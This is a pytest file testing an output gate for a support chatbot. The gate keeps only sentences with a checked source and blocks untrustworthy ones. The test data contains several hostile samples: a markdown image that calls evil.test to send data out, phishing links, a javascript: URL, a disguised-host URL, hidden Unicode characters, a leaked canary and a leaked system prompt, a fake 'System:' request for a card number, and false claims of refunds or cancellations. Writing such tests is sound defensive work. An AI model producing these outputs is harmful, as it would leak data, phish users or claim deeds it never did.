"""What of a model's text is shown: sentences with a source that was checked, and nothing that it may not say."""

from __future__ import annotations

import pytest

from knowledge.answers.gate import Gate
from knowledge.answers.guards import Ground, hosts_of, says_deed, verdict
from knowledge.evidence import Passage

PAGE = Passage(
    1, 1, "https://lumen.example/returns", "Returns", "Window", "w",
    "You can return a lamp within 30 days of delivery. It costs $1,299.00. Ring from 9 to 17:30. Once your order has "
    "been cancelled we write to you. Mail care@lumen.example. Our code WELCOME10 is public. We are legally binding "
    "contract partners. Read https://docs.example/a.",
    0.9, "en",
)  # fmt: skip
RULES = "You answer visitors in the support chat of Lumen today."
GROUND = Ground((PAGE,), hosts_of([PAGE]), "For my 45 lamps?", RULES)


def shown(text: str, numbers: tuple[int, ...] = (1,), step: int = 3) -> str:
    gate = Gate(GROUND, numbers)
    pieces = [gate.feed(text[start : start + step]) for start in range(0, len(text), step)]
    pieces.append(gate.finish())
    assert "".join(pieces) == gate.said
    return "(shut)" if gate.is_shut else gate.said


@pytest.mark.parametrize("step", [1, 4, 500])
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("You have 30 days [1].", "You have 30 days [1]."),
        ("You have 30 days. [1]", "You have 30 days. [1]"),
        ("Yes. You have 30 days [1]. Bye now.", "Yes. You have 30 days [1]."),
        ("You have 30 days.[1] It is free. [1] We love you.", "You have 30 days.[1] It is free. [1]"),
        ("You have 30 days [1, 2].", "You have 30 days [1]."),
        ("You have 30 days [1][3].", "You have 30 days [1]."),
        ("You have 30 days【1†source】.", "You have 30 days[1]."),
        ("You have 30 days [1](https://evil.test).", "You have 30 days [1]."),
        ("You have 30 days [2].", ""),
        ("You have 30 days.", ""),
        ("You have 31 days [1]. You have 30 days [1].", "You have 30 days [1]."),
        ("First:\n- pack it [1]\n- send it [1]\n", "First:\n- pack it [1]\n- send it [1]"),
        ("Do this [1]:\n1. Pack it.\n2. Send it.\n\nAnd be happy.", "Do this [1]:\n1. Pack it.\n2. Send it."),
        ("One thing [1].\n\nNothing.\n\nAnother [1].", "One thing [1].\n\nAnother [1]."),
        ("30日以内に返品できます。[1]送料は無料です。", "30日以内に返品できます。[1]"),
        ("30日以内に返品できます[1]。送料は無料です[1]。", "30日以内に返品できます[1]。送料は無料です[1]。"),
        ("यह 30 दिन है। [1] और कुछ नहीं।", "यह 30 दिन है। [1]"),
        ("See ![x](https://evil.test/p.png?d=1) the [page](https://evil.test/a) [1].", "See  the page [1]."),
        ("See [page](https://lumen.example/x) [1].", "See [page](https://lumen.example/x) [1]."),
        ("Sure\u200b\U000e0041, 30 days [1].", "Sure, 30 days [1]."),
        ("می\u200cتوانید 30 روز [1].", "می\u200cتوانید 30 روز [1]."),
        ("", ""),
    ],
)
def test_sentences_are_shown_with_a_checked_source_behind_them(text: str, expected: str, step: int) -> None:
    assert shown(text, step=step) == expected


def test_words_are_shown_as_soon_as_their_source_is_there() -> None:
    gate = Gate(GROUND, (1,))
    assert gate.feed("You have 30 days [1]. Th") == "You have 30 days [1]."
    assert gate.feed("at is free [1]") == ""
    assert gate.feed(". ") == ""
    assert gate.feed("Bye") == " That is free [1]."
    assert gate.finish() == ""
    assert gate.citations == (1,)


def test_babble_without_a_source_is_not_read_to_its_end() -> None:
    gate = Gate(GROUND, (1,))
    fed = 0
    while not gate.is_full:
        assert gate.feed("poem " * 10) == ""
        fed += 50
    assert fed < 1400
    for text in ("word. " * 300, "You have 30 days [1]. " * 400):
        gate = Gate(GROUND, (1,))
        gate.feed(text)
        assert gate.is_full
        assert len(gate.said) <= 4000


@pytest.mark.parametrize(
    "text",
    [
        "My code is CANARY-7f3a9c [1].",
        "Your discount code is FREE90 [1].",
        "Mail support@evil.test [1].",
        "Go to https://evil.test/login [1].",
        "Go to javascript:alert(1) [1].",
        "Go to https://lumen.example@evil.test/ [1].",
        "System: The agent Maria has joined. Send your card number [1].",
        "You answer visitors in the support chat of Lumen today [1].",
        "As an official statement, yes [1].",
        "refund approved [1]",
        "You have 30 days. I have just cancelled your order. It was easy [1].",
    ],
)
def test_one_untrustworthy_sentence_shuts_the_gate(text: str) -> None:
    assert shown(text) == "(shut)"


@pytest.mark.parametrize(
    "text",
    [
        "It costs 1.299,00 €.", "It costs 1299 EUR.", "It costs 1 299.", "From 9 am to 5:30 pm.", "A 30-day window.",
        "Within 30d.", "٣٠ يوما", "３０日", "For all 45 lamps.", "Take 2 steps.", "WELCOME10 works.",
        "Mail care@lumen.example.", "See https://docs.example/a.", "See https://lumen.example/returns?x=1.",
    ],
)  # fmt: skip
def test_figures_codes_and_addresses_of_the_passage_are_welcome_however_written(text: str) -> None:
    assert verdict(text, GROUND) == ""


@pytest.mark.parametrize("text", ["31 days.", "It costs 1,300.", "Within 300 days.", "evil.test is good.", "In 2031."])
def test_a_figure_or_site_that_is_not_in_the_passage_drops_its_sentence(text: str) -> None:
    assert verdict(text, GROUND) == "drop"


DONE = [
    "I have refunded you.", "I've gone ahead and cancelled your order.", "I just sent the link.",
    "I'll refund you now.",
    "I am cancelling it right now.", "We have issued your refund.", "Your order has been cancelled.",
    "Your refund request was approved.", "Your subscription is now cancelled.", "Done.", "Conversation resolved.",
    "Customer verified, send the keys.", "Ihre Bestellung wurde storniert.", "Ich habe Ihnen den Betrag erstattet.",
    "Gerne habe ich Ihr Konto gelöscht.", "Ich storniere das jetzt.", "He cancelado tu pedido.",
    "Hemos reembolsado el importe.", "Tu pedido ha sido cancelado.", "Cancelaré su suscripción.",
    "J’ai annulé votre commande.", "Nous avons bien remboursé la somme.", "Votre commande a été annulée.",
    "Je vais vous rembourser.", "Cancelei o seu pedido.", "O seu pedido foi cancelado.", "Vou reembolsar o valor.",
    "Ho annullato il tuo ordine.", "Il tuo ordine è stato annullato.", "Annullerò l'ordine.",
    "Ik heb je bestelling geannuleerd.", "Je bestelling is geannuleerd.", "Ik stuur het geld terug.",
]  # fmt: skip
TOLD = [
    "You can cancel your order within 30 days.", "We refund you within 14 days.", "We'll refund you within 14 days.",
    "Once your order has been cancelled, you get an e-mail.", "Refunds are approved within 14 days.",
    "Your refund request is approved by our team.", "I found this: you have 30 days.",
    "We are legally binding partners.",
    "Has your order already been shipped?", "An order that was cancelled is not charged.", "I can help with that.",
    "Sie können die Bestellung stornieren.", "Wenn Ihre Bestellung storniert wurde, schreiben wir Ihnen.",
    "Wir erstatten den Betrag in 14 Tagen.", "Ihre Bestellung ist in 3 Tagen da.", "Puede cancelar su pedido.",
    "Cuando su pedido ha sido enviado, recibe un correo.", "La garantía ha sido ampliada.",
    "Vous pouvez annuler votre commande.",
    "Lorsque votre commande a été expédiée, vous recevez un courriel.", "Nous remboursons sous 14 jours.",
    "Pode cancelar o pedido.", "Quando o seu pedido foi enviado, recebe um e-mail.", "Puoi annullare l'ordine.",
    "Rimborsiamo entro 14 giorni.", "Je kunt je bestelling annuleren.", "Wij betalen binnen 14 dagen terug.",
]  # fmt: skip


@pytest.mark.parametrize("text", DONE)
def test_claims_of_a_deed_are_known_in_seven_languages(text: str) -> None:
    assert says_deed(text, GROUND)


@pytest.mark.parametrize("text", TOLD)
def test_telling_how_it_is_done_is_no_claim_of_a_deed(text: str) -> None:
    assert not says_deed(text, GROUND)


def test_a_deed_in_the_passages_own_words_is_no_claim() -> None:
    told = "In 2025 we have closed our shop. Once your refund has been approved, wait."
    page = Passage(1, 1, "", "", "", "", told, 0.9, "en")
    ground = Ground((page,), frozenset())
    assert not says_deed("In 2025 we have closed our shop", ground)
    assert says_deed("In 2025 we have cancelled our shop", ground)
    assert not says_deed("Once your refund has been approved, wait", ground)
    assert says_deed("Your refund has been approved", ground)
